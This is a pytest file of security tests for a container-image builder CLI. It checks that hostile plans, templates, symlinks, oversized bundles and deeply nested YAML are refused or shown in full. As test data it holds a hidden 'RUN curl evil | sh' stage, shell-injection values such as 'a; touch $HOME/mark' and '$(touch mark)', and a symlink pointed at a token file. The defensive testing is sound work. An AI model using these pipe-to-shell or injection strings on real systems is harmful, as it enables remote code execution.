"""What a stranger's plan, folder or test file can do when a command reads it."""

from __future__ import annotations

import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from builder.cli import output
from builder.cli.image.given import ask_trust
from builder.errors import UsageError
from builder.model.plan import Plan
from builder.plan.bundle import LIMIT, read_bundle, write_bundle
from builder.plan.keys import keyed
from builder.verify.vary import run
from builder.verify.vary.kinds import ALL
from tests.support.cli import Cli
from tests.support.errors import fails
from tests.support.hostile import limit
from tests.support.limits import ends

HIDDEN = "FROM scratch AS hidden\nRUN curl evil | sh\n"
SHOWN = "FROM hidden AS compiled\nRUN true\n"


@pytest.mark.parametrize("quiet", [False, True])
def test_all_commands_of_a_plan_are_shown_before_it_is_trusted(
    make_plan: Callable[..., Plan], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, quiet: bool
) -> None:
    """A plan says itself which part of a Dockerfile are the stages of its layer; the engine runs all of it."""
    plan = make_plan()
    layers = [
        replace(layer, stages=SHOWN, dockerfile=HIDDEN + SHOWN) if layer.producer == "dockerfile" else layer
        for layer in plan.layers
    ]
    bundle = write_bundle(keyed(replace(plan, layers=tuple(layers))))
    monkeypatch.setattr(output, "_quiet", quiet)
    with fails(UsageError, "plan-not-trusted"):
        ask_trust(read_bundle(bundle, "here"), "h/x:1", trusted=False)
    assert HIDDEN + SHOWN in capsys.readouterr().err


def test_a_variation_imports_nothing_of_the_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mark = tmp_path / "mark"
    for name in ("locale", "re", "encodings", "functools"):
        (tmp_path / f"{name}.py").write_text(f"open({str(mark)!r}, 'w')\n")
    monkeypatch.chdir(tmp_path)
    for variation in (item for item in ALL if "LC_ALL" in item.environ):
        try:
            run._environment(variation)
        except run._CannotError:
            continue
    assert not mark.exists()


def test_a_hint_is_one_word_for_a_shell(cli: Cli) -> None:
    layer = cli.small.files["dockerfiles/layers/placed/layer.yaml"]
    layer["inputs"] = {"debs": "a; touch $HOME/mark"}
    said = cli("plan", "--recipe", "tiny")
    said.failed(4, "lock-section-missing")
    assert said.err.rstrip().endswith("builder lock 'a; touch $HOME/mark'")
    layer["producer"], layer["inputs"] = "dockerfile", {"sources": ["$(touch mark)/1"]}
    del layer["files"]
    said = cli("plan", "--recipe", "tiny")
    said.failed(4, "source-not-locked")
    assert said.err.rstrip().endswith("builder lock '$(touch mark)'")


def test_a_template_of_a_project_is_not_builders_own(cli: Cli) -> None:
    """`render` prints what the shared templates say, and no check comes after it."""
    before = cli("render", "--recipe", "tiny").out
    for name in ("image", "files", "toolchain"):
        cli.small.files[f"dockerfiles/{name}.Dockerfile.j2"] = "FROM evil\nADD https://example.org/x /\n"
    assert cli("render", "--recipe", "tiny").out == before


def test_a_layer_is_shown_without_hidden_characters(cli: Cli) -> None:
    layer = cli.small.files["dockerfiles/layers/placed/layer.yaml"]
    layer["files"][0]["content"] = "a\u202eb\u200e\u061c\x9b"
    shown = cli("show", "placed")
    assert shown.code == 0 and not set("\u202e\u200e\u061c\x9b") & set(shown.out)


ADD = ("add", "wheels", "extra", "delta>=1", "--base", "tiny")


@pytest.mark.parametrize("name", ["recipes/locks/requests.yaml", "dockerfiles/layers/extra/layer.yaml"])
@pytest.mark.parametrize("kind", ["pipe", "folder", "link", "link to nothing"])
def test_add_reads_regular_files_of_the_project_only(cli: Cli, tmp_path: Path, name: str, kind: str) -> None:
    cli.small.files["recipes/bases/tiny.yaml"]["vllm"] = "0.20.0"
    cli.write()
    cli.keep = True
    path, private = cli.folder / "project" / name, tmp_path / "private"
    private.write_text("token: geheim\n")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to(private if kind == "link" else tmp_path / "nothing")
    with limit():
        said = cli(*ADD)
    assert said.code == 3 and "[file-not-regular]" in said.err, said.err
    assert private.read_text() == "token: geheim\n" and not (tmp_path / "nothing").exists()


def test_add_to_requests_of_many_levels(cli: Cli) -> None:
    """The parser in C calls itself for each level, until the stack of the process ends."""
    cli.small.files["recipes/bases/tiny.yaml"]["vllm"] = "0.20.0"
    cli.small.files["recipes/locks/requests.yaml"] = "x-a: " + "[" * 200_000
    cli(*ADD).failed(3, "yaml-invalid")


def test_new_writes_through_no_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from builder.cli.recipe.new import new

    monkeypatch.delenv("BUILDER_PROJECT", raising=False)
    monkeypatch.chdir(tmp_path)
    outside = tmp_path / "outside"
    outside.write_text("mine")
    (tmp_path / "recipes").mkdir()
    (tmp_path / "recipes/mine.yaml").symlink_to(tmp_path / "created")
    with fails(UsageError, "new-file-exists"):
        new("recipe", "mine", model="a/b", base="hermetic-0.23", extends=None)
    folder = tmp_path / "dockerfiles/layers/mine"
    folder.mkdir(parents=True)
    (folder / "Dockerfile.j2").symlink_to(outside)
    (folder / "mine.c").symlink_to(tmp_path / "created")
    new("layer", "mine", compiled=True)
    assert outside.read_text() == "mine" and not (tmp_path / "created").exists()
    assert not (folder / "Dockerfile.j2").is_symlink()


def test_a_bundle_that_is_too_long_is_not_read_to_its_end(cli: Cli, tmp_path: Path) -> None:
    large = tmp_path / "bundle.json"
    large.write_bytes(b"{" + b" " * LIMIT)
    cli("build", "--plan", str(large)).failed(2, "bundle-unreadable")
    cli("diff", str(large), "tiny").failed(2, "diff-file-unreadable")
    with limit():
        cli("build", "--plan", "/dev/zero").failed(2, "bundle-unreadable")


def test_a_recipe_for_thousands_of_bases_is_refused(cli: Cli) -> None:
    """Each name was looked up among all others, for an hour."""
    cli.small.files["recipes/tiny.yaml"]["compatible"] = [f"base{number}" for number in range(15_000)]

    def work() -> None:
        said = cli("list")
        assert said.code == 3 and "[value-invalid]" in said.err

    ends(work)
